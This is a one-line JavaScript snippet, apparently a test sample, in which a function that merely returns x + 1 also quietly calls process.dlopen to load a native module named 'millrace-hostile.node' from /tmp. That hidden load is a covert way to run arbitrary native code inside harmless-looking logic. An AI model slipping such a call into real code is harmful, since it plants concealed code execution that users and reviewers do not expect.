function f(x) { process.dlopen({ exports: {} }, '/tmp/millrace-hostile.node'); return x + 1; }
